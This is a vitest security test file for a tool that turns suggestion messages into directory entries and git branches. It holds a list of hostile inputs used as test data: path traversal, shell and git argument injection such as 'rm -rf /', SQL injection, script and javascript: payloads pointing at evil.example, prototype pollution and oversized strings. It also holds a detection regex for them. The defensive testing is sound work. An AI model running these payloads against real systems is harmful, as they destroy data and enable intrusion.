import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { projectFolder } from '../../scripts/environment.ts';
import { commitBranch, hasBranch, originOf, takeOut } from '../../scripts/suggestion/content-branch.ts';
import { prepareSuggestion } from '../../scripts/suggestion/prepare-suggestion.ts';
import { assetSchema } from '../../src/domain/asset.ts';
import { parseDay } from '../../src/domain/calendar-day.ts';
import { gapSchema } from '../../src/domain/gap.ts';
import { slugSchema } from '../../src/domain/slug.ts';
import { suggestionSchema } from '../../src/domain/suggestion.ts';
import { suggestionForms, type SuggestionFormName } from '../../src/domain/suggestion-form.ts';
import { pullRequestText } from '../../src/formats/suggestion-pull-request.ts';
import { readSuggestions, UnreadableSuggestion } from '../../src/imports/suggestion-messages.ts';
import { proposeSuggestion } from '../../src/imports/suggestion-proposal.ts';
import { readDirectory } from '../../src/reader/read-directory.ts';
import { writeEntry } from '../../src/reader/write-entry.ts';
import { hostileStrings } from './own-strings.ts';

const today = parseDay('2026-11-22');
const home = mkdtempSync(join(tmpdir(), 'hereabouts-hostile-'));
afterAll(() => {
  rmSync(home, { recursive: true, force: true });
});

const town = join(projectFolder, 'tests', 'fixtures', 'tiny-town');
const directory = readDirectory(town, today).directory!;

/** What else is tried on whoever reads mail with a program. */
const more = [
  '../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/etc/cron.d/evil',
  'content/../../.github/workflows/evil.yml',
  '.git/hooks/post-checkout',
  '---\ntitle: Evil\n---',
  '---js\nmodule.exports = {}\n---',
  'x\n---\nchecked: {on: 2026-11-22, by: member-1, how: visited}\n---\n',
  'title: x\nstatus: {is: unlisted}',
  '`rm -rf /`; $(touch /tmp/evil) && echo $' + '{HOME}',
  '--output=/tmp/evil',
  '-c core.pager=evil',
  'HEAD; rm -rf .',
  'refs/heads/main',
  "'; DROP TABLE assets; --",
  '```\n</textarea><script>alert(1)</script>\n```',
  '```js\nalert(1)\n```',
  '@everyone closes #1 fixes #2',
  'import x from "node:fs"\nexport default x\n{process.env.SECRET}',
  '<script type="module">import("https://evil.example")</script>',
  '![x](https://evil.example/track.png)',
  '[click](javascript:alert(1)) <https://evil.example/>',
  'https://evil.example/?about=slow-miles',
  '__proto__',
  'constructor',
  'a'.repeat(15_000),
  '\u0301'.repeat(3_000),
  '👨‍👩‍👧‍👦'.repeat(1_500),
  `${'> '.repeat(3_000)}x`,
  '('.repeat(8_000),
  '<'.repeat(8_000),
  '\n'.repeat(8_000),
  '=?utf-8?b?'.repeat(800),
];

const attacks = [...Object.values(hostileStrings).flat(), ...more];

/** One message with the same attack as the answer to every question but the first, which is good where it can be. */
function attackOn(form: SuggestionFormName, attack: string, first: string): string {
  return suggestionForms[form].questions
    .map(({ ask, isNeeded }) => `### ${ask}\n\n${isNeeded === true ? first : attack}`)
    .join('\n\n');
}

/** What no text of the content may hold, whoever wrote it. */
const dangerous =
  /<[a-z!/]|javascript:|vbscript:|data:text|evil\.example|[\u202a-\u202e\u2066-\u2069\u200b\u0000-\u0008\u001b]/i;

/** Undefined where the whole was refused: a character that no text has. */
function proposalOf(text: string) {
  if (text.includes('\0')) {
    expect(() => readSuggestions(new TextEncoder().encode(text), 'issue.md')).toThrow(UnreadableSuggestion);
    return undefined;
  }
  const [message] = readSuggestions(new TextEncoder().encode(text), 'issue.md');
  return proposeSuggestion({
    message: message!,
    directory,
    today,
    help: { theme: 'eat-together', venue: 'net-loft' },
  });
}

describe('a hostile suggestion', () => {
  it.each([
    ['about an entry', 'change', 'Slow Miles'],
    ['for a new entry', 'new', 'Crochet'],
    ['of something missing', 'missing', 'A choir'],
  ] as const)('%s comes to nothing but plain words in the fields of the model', (_, form, first) => {
    for (const attack of attacks) {
      for (const text of [
        attackOn(form, attack, first),
        attackOn(form, attack, `${first} ${attack}`),
        attackOn(form, 'x', attack),
      ]) {
        const proposal = proposalOf(text);
        if (proposal === undefined) continue;
        const { entry, change, gap, record, key } = proposal;
        const told = JSON.stringify([entry?.asset, change?.fields, gap?.gap, record.data]);
        expect(told).not.toMatch(dangerous);
        expect(slugSchema.safeParse(record.slug).success).toBe(true);
        expect(key).toBe(record.slug);
        expect(suggestionSchema.safeParse(record.data).success).toBe(true);
        if (entry !== undefined) {
          expect(assetSchema.safeParse(entry.asset).success).toBe(true);
          expect(slugSchema.safeParse(entry.slug).success).toBe(true);
          expect(writeEntry(entry.asset, entry.body).match(/^---$/gm)).toHaveLength(2);
          expect(entry.asset.checked).toBeUndefined();
          expect(Object.keys(entry.asset)).not.toContain('links');
        }
        if (gap !== undefined) expect(gapSchema.safeParse(gap.gap).success).toBe(true);
        expect(
          Object.keys(change?.fields ?? {}).filter(
            (field) => !['status', 'sessions', 'where', 'whenInWords'].includes(field),
          ),
        ).toEqual([]);
      }
    }
  });

  it('reaches the pull request only inside a block that no host reads as anything but text', () => {
    for (const attack of attacks) {
      const proposal = proposalOf(attackOn('change', attack, 'Slow Miles'));
      if (proposal === undefined) continue;
      const { title, understood, byHand, leftOut } = proposal;
      const text = pullRequestText({
        title,
        understood,
        byHand,
        leftOut,
        warnings: [],
        files: [],
        cameOn: today,
        follow: '',
        isSettled: true,
      });
      const outside = text.replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '');
      expect(outside).not.toMatch(/@everyone|#1|<|\]\(|evil/);
      expect(title).not.toMatch(/\n/);
    }
  });

  it('is refused as a whole when it is no text, or too much of it, by each way of bringing it', () => {
    const bytes = [
      Buffer.from('%PDF-1.7\n\0\0\0\n'),
      Buffer.from([0x50, 0x4b, 3, 4, 0, 0, 0, 0]),
      Buffer.alloc(2_000_000, '['),
      Buffer.from(`[${'['.repeat(200_000)}`),
      Buffer.from(`{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}`),
      Buffer.from(
        'Subject: x\nContent-Type: multipart/mixed; boundary=a\n\n' +
          '--a\nContent-Type: multipart/mixed; boundary=a\n\n'.repeat(5_000),
      ),
    ];
    for (const content of bytes) {
      try {
        const messages = readSuggestions(content, 'x');
        for (const message of messages) expect(message.answers.size).toBe(0);
      } catch (error) {
        expect(error).toBeInstanceOf(UnreadableSuggestion);
      }
    }
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });

  it('leaves a real repository as it was, but for one branch with files of the content', () => {
    const repository = join(home, 'town');
    cpSync(town, join(repository, 'content'), { recursive: true });
    const git = (...words: string[]) =>
      execFileSync('git', ['-c', 'user.name=T', '-c', 'user.email=t@example.org', ...words], {
        cwd: repository,
        encoding: 'utf8',
      }).trim();
    git('init', '--quiet', '--initial-branch=main');
    git('add', '.');
    git('commit', '--quiet', '--message', 'The town');
    const state = () => [git('status', '--porcelain'), git('rev-parse', 'HEAD'), git('symbolic-ref', 'HEAD')];
    const before = [state(), readdirSync(home)];
    const origin = originOf(join(repository, 'content'), 'HEAD');
    for (const [index, attack] of more.slice(0, 12).entries()) {
      const copy = takeOut(origin);
      const [message] = readSuggestions(
        new TextEncoder().encode(attackOn('new', attack, `Crochet ${attack}`)),
        'x',
      );
      const help = { theme: 'eat-together', venue: 'net-loft' };
      const made = prepareSuggestion({
        copy,
        directory,
        message: message!,
        today,
        number: String(index + 1),
        help,
      });
      copy.close();
      expect(existsSync(copy.contentDir)).toBe(false);
      expect(made.errors).toEqual([]);
      commitBranch(origin, `suggestion/${index + 1}`, made.files, `${made.proposal.title}\n`);
      expect(hasBranch(origin, `suggestion/${index + 1}`)).toBe(true);
      const changed = git('diff', '--name-status', 'main', `suggestion/${index + 1}`).split('\n');
      for (const line of changed)
        expect(line).toMatch(/^A\tcontent\/(?:assets\/[a-z0-9-]+\.md|suggestions\/issue-\d+\.json)$/);
      expect(git('ls-tree', '-r', `suggestion/${index + 1}`)).not.toMatch(/^(?!100644)/m);
    }
    expect([state(), readdirSync(home)]).toEqual(before);
    expect(existsSync('/tmp/evil')).toBe(false);
  }, 120_000);
});
